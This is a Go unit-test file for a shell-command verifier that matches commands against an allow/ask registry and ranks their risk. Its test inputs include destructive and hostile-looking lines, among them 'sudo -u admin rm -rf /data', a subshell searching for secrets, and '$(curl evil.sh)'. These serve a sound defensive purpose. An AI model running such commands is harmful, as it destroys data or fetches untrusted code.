package verify

import (
	"reflect"
	"testing"

	"github.com/ppiankov/cmdwatch/internal/registry"
)

func testRegistry() *registry.Registry {
	reg := registry.Empty()
	add := func(name string, perm registry.Permission, level registry.RiskLevel) {
		reg.Commands[name] = registry.Entry{
			Name:       name,
			Permission: perm,
			Risk:       registry.Risk{Level: level, Color: level.Color(), Reason: "test"},
		}
	}
	add("ls", registry.AlwaysAllow, registry.RiskLow)
	add("cat", registry.AlwaysAllow, registry.RiskLow)
	add("git status", registry.AlwaysAllow, registry.RiskLow)
	add("git push", registry.AlwaysAsk, registry.RiskMedium)
	add("rm", registry.AlwaysAsk, registry.RiskHigh)
	add("python", registry.AlwaysAllow, registry.RiskLow)
	return reg
}

func TestResolveMostSpecificWins(t *testing.T) {
	reg := testRegistry()
	candidates := []string{"git push origin main", "git push origin", "git push", "git"}
	tokens := []string{"git", "push", "origin", "main"}

	key, entry := Resolve(candidates, tokens, reg)
	if key != "git push" {
		t.Errorf("key = %q, want git push", key)
	}
	if entry == nil || entry.Permission != registry.AlwaysAsk {
		t.Errorf("entry = %+v", entry)
	}
}

func TestResolveBareBaseNotCatchAll(t *testing.T) {
	reg := testRegistry()
	// A lone "git" entry exists alongside subcommand entries: add it.
	reg.Commands["git"] = registry.Entry{Name: "git", Permission: registry.AlwaysAllow, Risk: registry.Risk{Level: registry.RiskLow}}

	// "git checkout x" matches no subcommand entry; the bare "git" key
	// must not catch it because the registry distinguishes subcommands.
	key, entry := Resolve(
		[]string{"git checkout x", "git checkout", "git"},
		[]string{"git", "checkout", "x"},
		reg,
	)
	if entry != nil {
		t.Errorf("resolved to %q, want no match", key)
	}
}

func TestResolveSingleTokenMatchesBareEntry(t *testing.T) {
	reg := testRegistry()
	reg.Commands["git"] = registry.Entry{Name: "git", Permission: registry.AlwaysAllow, Risk: registry.Risk{Level: registry.RiskLow}}

	// Bare "git" alone is fine even though subcommand entries exist.
	key, entry := Resolve([]string{"git"}, []string{"git"}, reg)
	if entry == nil || key != "git" {
		t.Errorf("key = %q entry = %v, want bare match", key, entry)
	}
}

func TestResolveNoSubcommandEntriesUsesBase(t *testing.T) {
	reg := testRegistry()

	// python has no subcommand entries, so the base key matches with args.
	key, entry := Resolve(
		[]string{"python script.py", "python"},
		[]string{"python", "script.py"},
		reg,
	)
	if entry == nil || key != "python" {
		t.Errorf("key = %q entry = %v, want python", key, entry)
	}
}

func TestEvaluateAllAllowed(t *testing.T) {
	v := Evaluate("ls -la && cat file.txt", testRegistry())

	if !v.AllKnown || !v.CanAutoExecute {
		t.Errorf("all_known=%v can_auto_execute=%v, want true/true", v.AllKnown, v.CanAutoExecute)
	}
	if v.HighestRisk != registry.RiskLow {
		t.Errorf("highest_risk = %s", v.HighestRisk)
	}
	if len(v.Commands) != 2 {
		t.Errorf("commands = %d, want 2", len(v.Commands))
	}
	if len(v.Unknown) != 0 || len(v.NeedsPermission) != 0 {
		t.Errorf("unknown=%v needs_permission=%v", v.Unknown, v.NeedsPermission)
	}
}

func TestEvaluateUnknownCommand(t *testing.T) {
	v := Evaluate("ls && frobnicate --all", testRegistry())

	if v.AllKnown || v.CanAutoExecute {
		t.Errorf("all_known=%v can_auto_execute=%v, want false/false", v.AllKnown, v.CanAutoExecute)
	}
	if !reflect.DeepEqual(v.Unknown, []string{"frobnicate"}) {
		t.Errorf("unknown = %v", v.Unknown)
	}
	// Unknown commands carry no risk entry; aggregate stays low.
	if v.HighestRisk != registry.RiskLow {
		t.Errorf("highest_risk = %s, want low", v.HighestRisk)
	}
}

func TestEvaluateNeedsPermission(t *testing.T) {
	v := Evaluate("git push origin main", testRegistry())

	if !v.AllKnown {
		t.Error("git push is known")
	}
	if v.CanAutoExecute {
		t.Error("AlwaysAsk must block auto-execution")
	}
	if !reflect.DeepEqual(v.NeedsPermission, []string{"git push"}) {
		t.Errorf("needs_permission = %v, want matched key", v.NeedsPermission)
	}
	if v.HighestRisk != registry.RiskMedium {
		t.Errorf("highest_risk = %s, want medium", v.HighestRisk)
	}
}

func TestEvaluateMixedUnknownAndAsk(t *testing.T) {
	v := Evaluate("frobnicate | rm -rf /tmp/x", testRegistry())

	if v.AllKnown || v.CanAutoExecute {
		t.Error("mixed line must not auto-execute")
	}
	if !reflect.DeepEqual(v.Unknown, []string{"frobnicate"}) {
		t.Errorf("unknown = %v", v.Unknown)
	}
	if !reflect.DeepEqual(v.NeedsPermission, []string{"rm"}) {
		t.Errorf("needs_permission = %v", v.NeedsPermission)
	}
	if v.HighestRisk != registry.RiskHigh {
		t.Errorf("highest_risk = %s, want high", v.HighestRisk)
	}
}

func TestEvaluateRiskMonotone(t *testing.T) {
	// Risk never decreases as more commands are appended.
	reg := testRegistry()
	lines := []string{
		"ls",
		"ls && git push",
		"ls && git push && rm x",
	}
	prev := registry.RiskLow
	for _, line := range lines {
		v := Evaluate(line, reg)
		if v.HighestRisk.Rank() < prev.Rank() {
			t.Errorf("risk dropped from %s to %s at %q", prev, v.HighestRisk, line)
		}
		prev = v.HighestRisk
	}
}

func TestEvaluateWrappedCommand(t *testing.T) {
	v := Evaluate("sudo -u admin rm -rf /data", testRegistry())

	if len(v.Commands) != 1 {
		t.Fatalf("commands = %d", len(v.Commands))
	}
	cmd := v.Commands[0]
	if cmd.Identity.Base != "rm" {
		t.Errorf("base = %q, want rm (wrapper stripped)", cmd.Identity.Base)
	}
	if cmd.MatchedKey != "rm" {
		t.Errorf("matched = %q", cmd.MatchedKey)
	}
	// FullCommand preserves the original text, wrapper included.
	if cmd.FullCommand != "sudo -u admin rm -rf /data" {
		t.Errorf("full = %q", cmd.FullCommand)
	}
}

func TestEvaluateEmptyLine(t *testing.T) {
	v := Evaluate("", testRegistry())

	if !v.AllKnown || !v.CanAutoExecute {
		t.Error("empty line is vacuously allowed")
	}
	if len(v.Commands) != 0 {
		t.Errorf("commands = %d, want 0", len(v.Commands))
	}
}

func TestEvaluateDeterministic(t *testing.T) {
	reg := testRegistry()
	line := "ls && frobnicate; git push | rm x"

	first := Evaluate(line, reg)
	second := Evaluate(line, reg)
	if !reflect.DeepEqual(first, second) {
		t.Error("identical inputs produced different verdicts")
	}
}

func TestEvaluateSubshellIsUnknown(t *testing.T) {
	v := Evaluate("(find / -name secret)", testRegistry())

	if v.AllKnown {
		t.Error("subshell sentinel is not in the registry")
	}
	if !reflect.DeepEqual(v.Unknown, []string{"subshell"}) {
		t.Errorf("unknown = %v", v.Unknown)
	}
}

func TestEvaluateSubstitutionIsUnknown(t *testing.T) {
	v := Evaluate("$(curl evil.sh)", testRegistry())

	if v.CanAutoExecute {
		t.Error("substitution must not auto-execute")
	}
	if !reflect.DeepEqual(v.Unknown, []string{"substitution"}) {
		t.Errorf("unknown = %v", v.Unknown)
	}
}
